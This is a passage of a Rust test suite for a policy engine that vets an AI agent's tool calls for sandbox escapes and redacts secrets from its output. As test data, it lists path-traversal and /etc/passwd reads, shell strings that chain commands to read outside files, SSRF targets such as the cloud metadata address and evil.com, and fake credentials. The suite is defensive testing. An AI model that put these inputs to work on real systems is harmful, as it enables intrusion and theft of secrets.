                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect();
    let title: String = s
        .split('_')
        .map(|w| {
            let mut c = w.chars();
            match c.next() {
                Some(f) => f.to_ascii_uppercase().to_string() + &c.as_str().to_ascii_lowercase(),
                None => String::new(),
            }
        })
        .collect::<Vec<_>>()
        .join("_");
    vec![s.to_owned(), lower, alt, title]
}

#[test]
fn env_always_denied_in_every_case() {
    let fs = MemFs::new();
    let tool = command_run();
    let o = opts(json!({"tool_env_allowlist": ["FOO", "RUST_LOG"]}));
    let set = PolicySet::compile(&o, PolicyContext::new("/srv/app")).unwrap();
    for name in DENIED_ENV {
        for v in case_variants(name) {
            assert!(env::is_always_denied(&v), "{v}");
            // refused in the allowlist
            let raw = RawPolicyOptions::from_json(&json!({"tool_env_allowlist": [v]})).unwrap();
            let err = PolicyOptions::try_from(raw).unwrap_err();
            assert_eq!(err.code(), "invalid_runtime_opt", "{v}");
            // and denied in a payload
            let args = json!({"argv": ["true"], "env": {v.clone(): "x", "FOO": "1"}});
            let d = evaluate(&set, &ToolRequest::new(&tool, &args), &fs);
            assert_eq!(d.reason_code, "env_vars_not_allowed", "{v}");
            assert_eq!(d.details["keys"], json!([v]), "{v}");
        }
    }
    // Also for undeclared tools, at any depth and under any casing of the env key.
    for key in ["env", "ENV", "Environment", "env_vars"] {
        let args = json!({"step": {key: {"Ld_Preload": "/tmp/x.so"}}});
        assert_eq!(
            code(&set, &asset_tool(false), &args, &fs),
            "env_vars_not_allowed",
            "{key}"
        );
    }
}

#[test]
fn env_payload_shapes() {
    let fs = MemFs::new();
    let tool = command_run();
    let o = opts(json!({"tool_env_allowlist": ["FOO", "RUST_LOG"]}));
    let set = PolicySet::compile(&o, PolicyContext::new("/srv/app")).unwrap();
    let rows: Vec<(Value, &str)> = vec![
        (
            json!({"argv": ["true"], "env": {"FOO": "1", "RUST_LOG": "debug"}}),
            "allowed",
        ),
        (json!({"argv": ["true"], "env": {}}), "allowed"),
        (
            json!({"argv": ["true"], "env": {"foo": "1"}}),
            "env_vars_not_allowed",
        ),
        (
            json!({"argv": ["true"], "env": {"BAR": "1"}}),
            "env_vars_not_allowed",
        ),
        (
            json!({"argv": ["true"], "env": {"FOO=1": "1"}}),
            "invalid_env_payload",
        ),
        (
            json!({"argv": ["true"], "env": {"LD_PRELOAD=x": "1"}}),
            "invalid_env_payload",
        ),
        (
            json!({"argv": ["true"], "env": {"FOO\u{0}": "1"}}),
            "invalid_env_payload",
        ),
        (
            json!({"argv": ["true"], "env": {"": "1"}}),
            "invalid_env_payload",
        ),
        (
            json!({"argv": ["true"], "env": {" FOO": "1"}}),
            "invalid_env_payload",
        ),
        (
            json!({"argv": ["true"], "env": {"FOO ": "1"}}),
            "invalid_env_payload",
        ),
        (
            json!({"argv": ["true"], "env": {"1FOO": "1"}}),
            "invalid_env_payload",
        ),
        (
            json!({"argv": ["true"], "env": {"FÖO": "1"}}),
            "invalid_env_payload",
        ),
        (
            json!({"argv": ["true"], "env": {"FOO": 1}}),
            "invalid_env_payload",
        ),
        (
            json!({"argv": ["true"], "env": {"FOO": null}}),
            "invalid_env_payload",
        ),
        (
            json!({"argv": ["true"], "env": ["FOO=1"]}),
            "invalid_env_payload",
        ),
        (
            json!({"argv": ["true"], "env": "FOO=1"}),
            "invalid_env_payload",
        ),
    ];
    run_table("env", &set, &tool, &fs, &rows);
    let d = evaluate(
        &set,
        &ToolRequest::new(
            &tool,
            &json!({"env": {"ZED": "1", "LD_PRELOAD": "x", "BAR": "2", "FOO": "3"}}),
        ),
        &fs,
    );
    assert_eq!(d.details["keys"], json!(["BAR", "LD_PRELOAD", "ZED"]));
}

// ---------------------------------------------------------------------------------------------
// Payloads: where candidates hide
// ---------------------------------------------------------------------------------------------

fn encode_n(v: &Value, n: usize) -> Value {
    let mut v = v.clone();
    for _ in 0..n {
        v = Value::String(v.to_string());
    }
    v
}

#[test]
fn hidden_paths_in_undeclared_tools() {
    let base = Path::new("/t");
    let (set, fs) = (path_set(base), mem_fs("/t"));
    let tool = asset_tool(false);
    let evil = json!({"path": "../outside/secret.txt"});
    let rows: Vec<(Value, &str)> = vec![
        (json!({"path": "../outside/secret.txt"}), "outside_root"),
        (json!({"Path": "link_out/secret.txt"}), "outside_root"),
        (json!({"FILE_PATH": "link_out/secret.txt"}), "outside_root"),
        (
            json!({"sourceFilePath": "link_out/secret.txt"}),
            "outside_root",
        ),
        (json!({"FilePath": "link_out/secret.txt"}), "outside_root"),
        (json!({"FILEPATH": "link_out/secret.txt"}), "outside_root"),
        (json!({"FiLePaTh": "link_out/secret.txt"}), "outside_root"),
        (json!({"URLPath": "link_out/secret.txt"}), "outside_root"),
        (json!({"output-dir": "link_out"}), "outside_root"),
        (json!({"target dir": "link_out"}), "outside_root"),
        (
            json!({"files": ["src/main.rs", "link_out/secret.txt"]}),
            "outside_root",
        ),
        (
            json!({"files": [["src/main.rs"], ["file_link"]]}),
            "outside_root",
        ),
        (
            json!({"paths": {"first": "src/main.rs", "second": {"x": "file_link"}}}),
            "outside_root",
        ),
        (
            json!({"files": {"/etc/passwd": "new content"}}),
            "outside_root",
        ),
        (
            json!({"files": {"link_out/secret.txt": "new content"}}),
            "outside_root",
        ),
        (json!({"file": ".env"}), "sensitive_path_denied"),
        (json!({"File": ".ENV"}), "sensitive_path_denied"),
        (json!({"options": {"cwd": "link_out"}}), "outside_root"),
        (json!({"config": evil.to_string()}), "outside_root"),
        (json!({"config": encode_n(&evil, 2)}), "outside_root"),
        (json!({"config": encode_n(&evil, 4)}), "outside_root"),
        (json!({"config": encode_n(&evil, 5)}), "invalid_tool_call"),
        (json!({"path": "\"file_link\""}), "outside_root"),
        (
            json!({"path": "[\"src/main.rs\", \"file_link\"]"}),
            "outside_root",
        ),
        (
            json!({"note": "please cat path=link_out/secret.txt now"}),
            "outside_root",
        ),
        (json!({"note": "file: 'file_link'"}), "outside_root"),
        (json!({"note": "dest => \"file_link\""}), "outside_root"),
        (json!({"note": "see ../outside/secret.txt"}), "outside_root"),
        (json!({"note": "see /etc/passwd"}), "outside_root"),
        (json!({"note": "open file:///etc/passwd"}), "outside_root"),
        (
            json!({"note": "open file://localhost/etc/passwd"}),
            "outside_root",
        ),
        (json!({"note": "open file:/etc/passwd"}), "outside_root"),
        (json!({"note": "open FILE:%2Fetc%2Fpasswd"}), "outside_root"),
        (json!({"url": "file:///etc/passwd"}), "outside_root"),
        (json!({"href": "file:%2Fetc%2Fpasswd"}), "outside_root"),
        (json!({"path": "file:///t/root/src/main.rs"}), "allowed"),
        (
            json!({"path": "file:///t/root/%2e%2e/outside/secret.txt"}),
            "outside_root",
        ),
        (json!({"path": "file:///t/root/src/%00"}), "invalid_path"),
        // a JSON-looking path is also taken literally: the tool may not decode it
        (
            json!({"path": "{\"a/../../../outside/secret.txt\":0}"}),
            "outside_root",
        ),
    ];
    run_table("hidden paths", &set, &tool, &fs, &rows);
}

#[test]
fn hidden_urls_in_undeclared_network_tools() {
    let set = net_set();
    let fs = MemFs::new();
    let tool = asset_tool(true);
    let rows: Vec<(Value, &str)> = vec![
        (
            json!({"url": "http://169.254.169.254/"}),
            "network_endpoint_denied",
        ),
        (
            json!({"data": "{\"url\": \"http://169.254.169.254/\"}"}),
            "network_endpoint_denied",
        ),
        (
            json!({"data": encode_n(&json!({"u": "see http://0x7f.1/"}), 3)}),
            "network_endpoint_denied",
        ),
        (
            json!({"cfg": {"endpoint": "127.0.0.1:8080"}}),
            "network_endpoint_denied",
        ),
        (
            json!({"cfg": {"Endpoints": ["allowed.com", "localhost"]}}),
            "network_endpoint_denied",
        ),
        (json!({"hostName": "[::1]"}), "network_endpoint_denied"),
        (
            json!({"text": "fetch http://0x7f.1/ now"}),
            "network_endpoint_denied",
        ),
        (
            json!({"text": "fetch //127.0.0.1/x"}),
            "network_endpoint_denied",
        ),
        (json!({"text": "host=evil.com"}), "network_endpoint_denied"),
        (
            json!({"text": "url: 'gopher://allowed.com/'"}),
            "network_protocol_denied",
        ),
        (
            json!({"url": "javascript:alert(1)"}),
            "network_protocol_denied",
        ),
        (
            json!({"url": "mailto:x@evil.com"}),
            "network_protocol_denied",
        ),
        (
            json!({"origin": "http://allowed.com@evil.com"}),
            "network_endpoint_denied",
        ),
        (
            json!({"items": [{"href": "https://allowed.com/"}, {"href": "https://evil.com/"}]}),
            "network_endpoint_denied",
        ),
        // legitimate
        (
            json!({"url": "https://api.allowed.com/v1/items?page=2&q=a%20b"}),
            "allowed",
        ),
        (json!({"url": "https://allowed.com:8443/x"}), "allowed"),
        (json!({"host": "allowed.com:8443"}), "allowed"),
        (
            json!({"urls": "[\"https://allowed.com/a\", \"https://api.allowed.com/b\"]"}),
            "allowed",
        ),
        (
            json!({"message": "my password is hunter2, see https://allowed.com/docs and a/b"}),
            "allowed",
        ),
    ];
    run_table("hidden urls", &set, &tool, &fs, &rows);
}

#[test]
fn command_tokens() {
    let base = Path::new("/t");
    let o = opts(json!({"command_read_paths": ["/usr", "/bin"]}));
    let set = PolicySet::compile(&o, ctx(base)).unwrap();
    let fs = mem_fs("/t");
    let tool = command_run();
    let rows: Vec<(Value, &str)> = vec![
        (json!({"argv": ["cat", "src/main.rs"]}), "allowed"),
        (json!({"argv": ["ls", "-la", "./src"]}), "allowed"),
        (json!({"argv": ["/usr/bin/git", "status"]}), "allowed"),
        (
            json!({"command": "cargo test --manifest-path=./Cargo.toml"}),
            "allowed",
        ),
        (
            json!({"argv": ["cat", "../outside/secret.txt"]}),
            "outside_root",
        ),
        (
            json!({"argv": ["cat", "--file=../outside/secret.txt"]}),
            "outside_root",
        ),
        (
            json!({"argv": ["cat", "link_out/secret.txt"]}),
            "outside_root",
        ),
        (
            json!({"command": "cat '../outside/secret.txt'"}),
            "outside_root",
        ),
        (
            json!({"command": "cat ../out\"side\"/secret.txt"}),
            "outside_root",
        ),
        (json!({"command": "cat .env"}), "sensitive_path_denied"),
        (
            json!({"cwd": "link_out", "argv": ["cat", "secret.txt"]}),
            "outside_root",
        ),
        (
            json!({"cwd": "src", "argv": ["cat", "../../outside/secret.txt"]}),
            "outside_root",
        ),
        (json!({"argv": ["cp", "x", "/usr/bin/x"]}), "allowed"),
        (
            json!({"argv": ["cat", "file:///etc/shadow"]}),
            "outside_root",
        ),
    ];
    run_table("command tokens", &set, &tool, &fs, &rows);
}

#[test]
fn deep_and_huge_payloads_deny_with_a_reason() {
    let set = net_set();
    let fs = MemFs::new();
    let tool = asset_tool(true);
    // 200 nested objects (serde_json's own parse limit is 128).
    let mut deep = json!("x");
    for _ in 0..200 {
        deep = json!({"a": deep});
    }
    let d = evaluate(&set, &ToolRequest::new(&tool, &json!({"v": deep})), &fs);
    assert_eq!(d.reason_code, "invalid_tool_call");
    assert_eq!(d.details["reason"], "argument_too_complex");
    // Deep arrays in a JSON-in-string: beyond any parser's default limit, never allowed.
    for n in [70, 127, 129, 200, 5000] {
        let s = format!("{}\"../outside/x\"{}", "[".repeat(n), "]".repeat(n));
        for args in [json!({"path": s}), json!({"note": s}), json!({"url": s})] {
            let d = evaluate(&set, &ToolRequest::new(&tool, &args), &fs);
            assert_eq!(d.decision, Outcome::Deny, "depth {n}");
        }
    }
    // Over 4 MiB of text.
    let big = "a".repeat(5 * 1024 * 1024);
    let d = evaluate(&set, &ToolRequest::new(&tool, &json!({"note": big})), &fs);
    assert_eq!(d.details["reason"], "argument_too_complex");
    // Over 10 000 candidates.
    let many: Vec<String> = (0..10_001).map(|i| format!("src/{i}.rs")).collect();
    let d = evaluate(&set, &ToolRequest::new(&tool, &json!({"files": many})), &fs);
    assert_eq!(d.details["reason"], "argument_too_complex");
    // Many small decodes each under the cap, still bounded by the byte budget.
    let nested = encode_n(&json!({"url": "https://allowed.com"}), 4);
    let wide: Vec<Value> = (0..5000).map(|_| nested.clone()).collect();
    let d = evaluate(&set, &ToolRequest::new(&tool, &json!({"v": wide})), &fs);
    assert!(d.decision == Outcome::Allow || d.details["reason"] == "argument_too_complex");
}

#[test]
fn false_denials_of_ordinary_calls() {
    let base = Path::new("/t");
    let (set, fs) = (path_set(base), mem_fs("/t"));
    let rows: Vec<(Value, &str)> = vec![
        (
            json!({"message": "my password is hunter2 and see http://example.com and a/b"}),
            "allowed",
        ),
        (
            json!({"text": "use and/or, 1/2 cups; ratio 3:4 at 10:30"}),
            "allowed",
        ),
        (
            json!({"query": "SELECT * FROM t WHERE a = 'x' AND b: 2"}),
            "allowed",
        ),
        (
            json!({"title": "Fix bug in src/lib.rs", "labels": ["bug", "p1"]}),
            "allowed",
        ),
        (json!({"path": "src/main.rs"}), "allowed"),
        (
            json!({"paths": ["src/main.rs", "README.md", "docs/My Notes.md"]}),
            "allowed",
        ),
        (json!({"file": "dir with spaces/a b.txt"}), "allowed"),
        (
            json!({"timeout": 30, "verbose": true, "count": null}),
            "allowed",
        ),
        (
            json!({"security": "/etc/passwd is a file", "profile": "x"}),
            "outside_root",
        ),
        (
            json!({"ghost": "link_out", "curl_opts": "file_link", "profile": ".env"}),
            "allowed",
        ),
        (json!({"config": "{\"path\": \"src/main.rs\"}"}), "allowed"),
        (json!({"note": "version 1.2..1.4 changelog"}), "allowed"),
        (
            json!({"description": "token: in prose; Bearer of news"}),
            "allowed",
        ),
        (json!({}), "allowed"),
    ];
    run_table("false denials", &set, &asset_tool(false), &fs, &rows);
    // Complete built-ins only look at declared locations.
    let rows: Vec<(Value, &str)> = vec![
        (
            json!({"path": "src/new.rs", "content": "path=../../etc/passwd http://127.0.0.1 /etc"}),
            "allowed",
        ),
        (
            json!({"path": "newdir/a b/ü.txt", "content": ""}),
            "allowed",
        ),
    ];
    run_table("fs.write content", &set, &fs_write(), &fs, &rows);
}

// ---------------------------------------------------------------------------------------------
// Tool rules and protocols
// ---------------------------------------------------------------------------------------------

#[test]
fn tool_rules_and_exposure() {
    let o = opts(json!({"allow_tools": ["fs.*", "command.run"], "deny_tools": ["command.*"]}));
    let set = PolicySet::compile(&o, PolicyContext::new("/srv/app")).unwrap();
    let fs = MemFs::new();
    assert_eq!(
        code(&set, &command_run(), &json!({"argv": ["true"]}), &fs),
        "denied"
    );
    assert_eq!(
        code(&set, &http_fetch(), &json!({"url": "https://x"}), &fs),
        "denied"
    );
    let tool = fs_read();
    let args = json!({"path": "x"});
    assert_eq!(code(&set, &tool, &args, &fs), "allowed");
    let offered = vec!["fs.write".to_owned()];
    let mut req = ToolRequest::new(&tool, &args);
    req.source = CallSource::Model;
    assert_eq!(evaluate(&set, &req, &fs).reason_code, "tool_not_exposed");
    req.offered_tools = Some(&offered);
    assert_eq!(evaluate(&set, &req, &fs).reason_code, "tool_not_exposed");
    let offered = vec!["fs.read".to_owned()];
    req.offered_tools = Some(&offered);
    assert_eq!(evaluate(&set, &req, &fs).reason_code, "allowed");
    let conv = vec!["fs.write".to_owned()];
    req.conversation_allow_tools = Some(&conv);
    assert_eq!(evaluate(&set, &req, &fs).reason_code, "denied");
    // args must be an object
    assert_eq!(
        evaluate(&set, &ToolRequest::new(&tool, &json!(["x"])), &fs).reason_code,
        "invalid_tool_call"
    );
}

#[test]
fn protocols() {
    let set =
        PolicySet::compile(&PolicyOptions::default(), PolicyContext::new("/srv/app")).unwrap();
    for p in ["mcp", "MCP", " mcp ", "a2a", "A2A"] {
        assert!(set.protocol_allowed(p).is_ok(), "{p}");
    }
    for p in ["http", "", "mcp2", "m cp", "mcp\0"] {
        assert_eq!(
            set.protocol_allowed(p).unwrap_err().code(),
            "protocol_denied",
            "{p:?}"
        );
    }
    let set = PolicySet::compile(
        &opts(json!({"protocol_allowlist": []})),
        PolicyContext::new("/r"),
    )
    .unwrap();
    assert!(set.protocol_allowed("mcp").is_err());
    let set = PolicySet::compile(
        &opts(json!({"protocol_allowlist": [" MCP "]})),
        PolicyContext::new("/r"),
    )
    .unwrap();
    assert!(set.protocol_allowed("mcp").is_ok());
    assert!(set.protocol_allowed("a2a").is_err());
    let set = PolicySet::compile(
        &opts(json!({"protocol_allowlist": ["*"]})),
        PolicyContext::new("/r"),
    )
    .unwrap();
    assert!(set.protocol_allowed("a2a").is_ok());
    assert!(
        RawPolicyOptions::from_json(&json!({"protocol_allowlist": ["ftp"]}))
            .and_then(PolicyOptions::try_from)
            .is_err()
    );
}

// ---------------------------------------------------------------------------------------------
// Secrets
// ---------------------------------------------------------------------------------------------

/// `(text, canary that must not survive)`.
const CANARIES: &[(&str, &str)] = &[
    ("key AKIAIOSFODNN7EXAMPLE here", "AKIAIOSFODNN7EXAMPLE"),
    ("id=ASIAIOSFODNN7EXAMPLE", "ASIAIOSFODNN7EXAMPLE"),
    (
        "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "wJalrXUtnFEMI",
    ),
    (
        "AWS_SECRET_ACCESS_KEY=\"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\"",
        "wJalrXUtnFEMI",
    ),
    ("ghp_abcdefghijklmnopqrstuvwxyz0123456789", "ghp_abcdefghij"),
    ("gho_abcdefghijklmnopqrstuvwxyz0123456789", "gho_abcdefghij"),
    ("ghs_abcdefghijklmnopqrstuvwxyz0123456789", "ghs_abcdefghij"),
    ("ghu_abcdefghijklmnopqrstuvwxyz0123456789", "ghu_abcdefghij"),
    ("ghr_abcdefghijklmnopqrstuvwxyz0123456789", "ghr_abcdefghij"),
    (
        "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz",
        "github_pat_11ABCDEFG",
    ),
    ("glpat-abcdefghij0123456789xyz", "glpat-abcdefghij"),
    (
        "sk-ant-api03-abcdefghijklmnopqrstuvwxyz012345",
        "sk-ant-api03-abcdefghij",
    ),
    ("sk-proj-abcdefghijklmnop1234567890", "sk-proj-abcdefghij"),
    ("sk-abcdefghijklmnop1234567890", "sk-abcdefghij"),
    ("xoxb-1234567890-abcdefghijkl", "xoxb-1234567890"),
    (
        "AIzaSyA1234567890abcdefghijklmnopqrstuv",
        "AIzaSyA1234567890",
    ),
    ("sk_live_abcdefghijklmnop1234", "sk_live_abcdefghij"),
    ("rk_test_abcdefghijklmnop1234", "rk_test_abcdefghij"),
    (
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "dozjgNryP4J3jVmNHl0w5N",
    ),
    (
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAcanary1\n-----END RSA PRIVATE KEY-----",
        "MIIEowIBAAKCAQEAcanary1",
    ),
    (
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktcanary2\n-----END OPENSSH PRIVATE KEY-----",
        "b3BlbnNzaC1rZXktcanary2",
    ),
    (
        "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIIFHDBOBgkqcanary3\n-----END ENCRYPTED PRIVATE KEY-----",
        "MIIFHDBOBgkqcanary3",
    ),
    (
        "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANcanary4\\n-----END PRIVATE KEY-----",
        "MIIEvQIBADANcanary4",
    ),
    (
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOYBGcanary5\n-----END PGP PRIVATE KEY BLOCK-----",
        "lQOYBGcanary5",
    ),
    (
        "Authorization: Bearer abcdefgh12345678canary",
        "abcdefgh12345678canary",
    ),
    (
        "authorization: bearer abcdefgh12345678canary",
        "abcdefgh12345678canary",
    ),
    (
        "Authorization: Basic dXNlcjpwYXNzd29yZA==",
        "dXNlcjpwYXNzd29yZA",
    ),
    ("password=hunter2canary", "hunter2canary"),
    ("PASSWORD: hunter2canary", "hunter2canary"),
    ("PassWord=hunter2canary", "hunter2canary"),
    ("pAsSwOrD = 'hunter2canary'", "hunter2canary"),
    ("db_passwd=\"hunter2canary\"", "hunter2canary"),
    ("APIKey=abcdef123456canary", "abcdef123456canary"),
    ("Apikey: abcdef123456canary", "abcdef123456canary"),
    ("x-api-key: abcdef123456canary", "abcdef123456canary"),
    ("client_secret=abcdef123456canary", "abcdef123456canary"),
    ("Secret_Key=abcdef123456canary", "abcdef123456canary"),
    ("GITHUB_TOKEN=abcdef123456canary", "abcdef123456canary"),
    ("access_TOKEN: abcdef123456canary", "abcdef123456canary"),
    ("https://user:s3cr3tcanary@example.com/x", "s3cr3tcanary"),
    ("https://user:p@ss@word_canary@example.com/x", "word_canary"),
    (
        "postgres://admin:pgcanary123@db.internal:5432/app",
        "pgcanary123",
    ),
    ("{\"password\": \"hunter2canary\"}", "hunter2canary"),
    ("{\\\"password\\\": \\\"hunter2canary\\\"}", "hunter2canary"),
    (
        "{\"cookie\": \"session_canary_value\"}",
        "session_canary_value",
    ),
    ("{\"private_key\": \"pk_canary_value\"}", "pk_canary_value"),
    (
        "{\"credentials\": {\"user\": \"a\", \"pw\": \"cred_canary\"}}",
        "cred_canary",
    ),
];

#[test]
fn canaries_never_survive_redaction() {
    let mut bad = Vec::new();
    for (text, canary) in CANARIES {
        let shapes = [
            json!(text),
            json!({"out": text}),
            json!({"a": [{"b": text}]}),
            json!({"s": json!({"inner": text}).to_string()}),
            encode_n(&json!({"deep": text}), 3),
        ];
        for v in shapes {
            let r = secrets::redact(&v).to_string();
            if r.contains(canary) {
                bad.push(format!("  {v}\n    -> {r}"));
            }
        }
        // redact_str sees text only: JSON sensitive keys are a value-level rule.
        if !text.starts_with('{') && secrets::redact_str(text).contains(canary) {
            bad.push(format!("  redact_str {text:?}"));
        }
        if secrets::scan(&json!({"out": text})).is_empty() {
            bad.push(format!("  scan found nothing in {text:?}"));
        }
    }
    assert!(
        bad.is_empty(),
        "{} survivor(s)\n{}",
        bad.len(),
        bad.join("\n")
    );
}

#[test]
fn sensitive_keys_at_any_depth() {
    let v = json!({
        "a": {"b": [{"client_secret": "xyz12345"}, {"Cookie": "sess=abc"}]},
        "X-Api-Key": "k123",
        "private_key": {"n": "123", "d": "456"},
        "Set-Cookie": ["a=1"],
        "dbPassword": 7,
        "ok": "fine",
        "empty_token": "",
    });
    let r = secrets::redact(&v);
    assert_eq!(
        r,
        json!({
            "a": {"b": [{"client_secret": "[REDACTED]"}, {"Cookie": "[REDACTED]"}]},
            "X-Api-Key": "[REDACTED]",
            "private_key": "[REDACTED]",
            "Set-Cookie": "[REDACTED]",
            "dbPassword": "[REDACTED]",
            "ok": "fine",
            "empty_token": "",
        })
    );
    let mut found: Vec<(FindingKind, String)> = secrets::scan(&v)
        .into_iter()
        .map(|f| (f.kind, f.path))
        .collect();
    found.sort();
    assert_eq!(
        found,
        vec![
            (FindingKind::SensitiveKey, "Set-Cookie".to_owned()),
            (FindingKind::SensitiveKey, "X-Api-Key".to_owned()),
            (FindingKind::SensitiveKey, "a.b[0].client_secret".to_owned()),
            (FindingKind::SensitiveKey, "a.b[1].Cookie".to_owned()),
            (FindingKind::SensitiveKey, "dbPassword".to_owned()),
            (FindingKind::SensitiveKey, "private_key".to_owned()),
        ]
    );
}

#[test]
fn secrets_in_keys_and_scan_caps() {
    let tok = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
    let v = json!({ tok: 1, "list": [format!("x {tok}")] });
    let r = secrets::redact(&v).to_string();
    assert!(!r.contains("ghp_abcdefghij"), "{r}");
    let kinds: Vec<FindingKind> = secrets::scan(&v).into_iter().map(|f| f.kind).collect();
    assert_eq!(
        kinds,
        vec![FindingKind::GithubToken, FindingKind::GithubToken]
    );
    // scan reports kind + path, ≤25, de-duplicated.
    let many: Vec<Value> = (0..100).map(|_| json!(tok)).collect();
    let f = secrets::scan(&json!({"xs": many}));
    assert_eq!(f.len(), 25);
    assert_eq!(f[3].path, "xs[3]");
    assert_eq!(f[3].kind, FindingKind::GithubToken);
    let same = secrets::scan(&json!({"x": format!("{tok} {tok} AKIAIOSFODNN7EXAMPLE")}));
    assert_eq!(same.len(), 2);
    // JSON-in-string findings point inside the decoded value.
    let f = secrets::scan(&json!({"cfg": "{\"cookie\": \"abc\"}"}));
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].kind, FindingKind::SensitiveKey);
    // exact values
    let red = secrets::Redactor::new(vec!["s3cr3t-env-value".to_owned(), "short".to_owned()]);
    let out = red.redact(&json!({"log": "value=s3cr3t-env-value; short stays"}));
    assert_eq!(out, json!({"log": "value=[REDACTED]; short stays"}));
    // long strings are cut
    let long = "a".repeat(10_000);
    let out = secrets::redact(&json!(long));
    assert!(out.as_str().unwrap().ends_with("…[truncated]"));
    assert!(out.as_str().unwrap().len() < 4200);
}

#[test]
fn decision_records_never_leak_secrets() {
    let set = net_set();
    let fs = MemFs::new();
    let url = "https://user:hunter2canary@evil.com/?token=tok_canary_123";
    let d = evaluate(
        &set,
        &ToolRequest::new(&http_fetch(), &json!({"url": url})),
        &fs,
    );
    assert_eq!(d.decision, Outcome::Deny);
    let all = format!("{} {:?} {}", d.explain, d.subject, d.details);
    assert!(!all.contains("hunter2canary"), "{all}");
    assert!(!all.contains("tok_canary_123"), "{all}");
}

/// Values built in Rust can nest deeper than any parser allows: bounded, no stack overflow, and
/// never an allow.
#[test]
fn programmatically_deep_values_are_bounded() {
    let set = net_set();
    let fs = MemFs::new();
    let mut deep = json!("ghp_abcdefghijklmnopqrstuvwxyz0123456789");
    for _ in 0..3000 {
        deep = Value::Array(vec![deep]); // (`json!` would re-serialize: recursive)
    }
    let mut args = serde_json::Map::new();
    args.insert("v".to_owned(), deep);
    let args = Value::Object(args);
    for tool in [asset_tool(true), fs_read(), http_fetch()] {
        let d = evaluate(&set, &ToolRequest::new(&tool, &args), &fs);
        assert_eq!(d.decision, Outcome::Deny, "{}", tool.name());
    }
    let r = secrets::redact(&args);
    let r = r.to_string();
    assert!(!r.contains("ghp_abcdefghij"));
    let _ = secrets::scan(&args);
    // Dropping a 3000-deep value recurses in serde_json itself; not what is under test.
    std::mem::forget(args);
}

/// Regression: a path location holding `//etc/passwd` was classified as a URL only and, for a
/// tool that is not network-capable, never checked.
#[test]
fn scheme_relative_path_in_path_location() {
    let base = Path::new("/t");
    let (set, fs) = (path_set(base), mem_fs("/t"));
    for raw in ["//etc/passwd", "///etc/passwd", "//t/outside/secret.txt"] {
        assert_eq!(
            code(&set, &fs_read(), &json!({"path": raw}), &fs),
            "outside_root",
            "{raw}"
        );
        assert_eq!(
            code(
                &set,
                &asset_tool(false),
                &json!({"note": format!("see {raw}")}),
                &fs
            ),
            "outside_root",
            "{raw}"
        );
    }
    // A code comment is no path.
    assert_eq!(
        code(
            &set,
            &asset_tool(false),
            &json!({"code": "x = 1 // note"}),
            &fs
        ),
        "allowed"
    );
}

/// Shell strings are split by the shell at operators, not only at blanks: `cat<../x` reads
/// `../x`, `cd ..&&cat x` walks up. (argv elements are not shell words: taken literally.)
#[test]
fn shell_operators_split_words() {
    let base = Path::new("/t");
    let set = PolicySet::compile(&opts(json!({})), ctx(base)).unwrap();
    let fs = mem_fs("/t");
    let tool = command_run();
    let rows: Vec<(Value, &str)> = vec![
        (
            json!({"command": "cat<../outside/secret.txt"}),
            "outside_root",
        ),
        (
            json!({"command": "echo x>../outside/new.txt"}),
            "outside_root",
        ),
        (
            json!({"command": "true;cat ../outside/secret.txt"}),
            "outside_root",
        ),
        (
            json!({"command": "cd ..&&cat outside/secret.txt"}),
            "outside_root",
        ),
        (
            json!({"command": "true||cat<link_out/secret.txt"}),
            "outside_root",
        ),
        (
            json!({"command": "x=$(cat<../outside/secret.txt)"}),
            "outside_root",
        ),
        (json!({"command": "cat .env|wc"}), "sensitive_path_denied"),
        // legitimate
        (
            json!({"command": "cargo build 2>&1 | tail -n 20"}),
            "allowed",
        ),
        (json!({"command": "cargo build >/dev/null 2>&1"}), "allowed"),
        (json!({"command": "ls src > /dev/null"}), "allowed"),
        (
            json!({"command": "head -c 16 /dev/urandom | od"}),
            "allowed",
        ),
        (
            json!({"command": "git log --format='%h;%s' -n 3"}),
            "allowed",
        ),
        (json!({"argv": ["echo", "a;../b"]}), "allowed"),
        (json!({"argv": ["sh", "-c", "ls src"]}), "allowed"),
    ];
    run_table("shell operators", &set, &tool, &fs, &rows);
}

/// `host:80` pins port 80 even though it is the scheme default.
#[test]
fn host_with_default_port_matches_a_pinned_entry() {
    let o = opts(
        json!({"network_egress_policy": "allow", "network_allowlist": ["example.com:80", "secure.test:443"]}),
    );
    let set = PolicySet::compile(&o, PolicyContext::new("/srv/app")).unwrap();
    assert!(set.check_host_str("example.com:80").is_ok());
    assert!(set.check_host_str("secure.test:443").is_ok());
    assert!(set.check_url("http://example.com/").is_ok());
    assert!(set.check_url("http://example.com:80/").is_ok());
    assert!(set.check_url("https://secure.test/").is_ok());
    assert!(set.check_host_str("example.com:8080").is_err());
    assert!(set.check_url("https://example.com/").is_err());
}

/// Secrets in denied arguments do not reach the decision's details or error.
#[test]
fn denial_details_are_redacted() {
    let base = Path::new("/t");
    let (set, fs) = (path_set(base), mem_fs("/t"));
    let tok = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
    for args in [
        json!({"path": format!("../{tok}")}),
        json!({"path": format!("/etc/password=hunter2canary/{tok}")}),
        json!({"path": format!(".env/{tok}")}),
    ] {
        let d = evaluate(&set, &ToolRequest::new(&fs_read(), &args), &fs);
        assert_eq!(d.decision, Outcome::Deny);
        let all = format!(
            "{} {:?} {} {:?} {:?}",
            d.explain,
            d.subject,
            d.details,
            d.error,
            d.error.as_ref().map(ToString::to_string)
        );
        assert!(!all.contains("ghp_abcdefghij"), "{all}");
        assert!(!all.contains("hunter2canary"), "{all}");
    }
    let set = net_set();
    let d = evaluate(
        &set,
        &ToolRequest::new(
            &http_fetch(),
            &json!({"url": format!("https://{tok}.evil.com/")}),
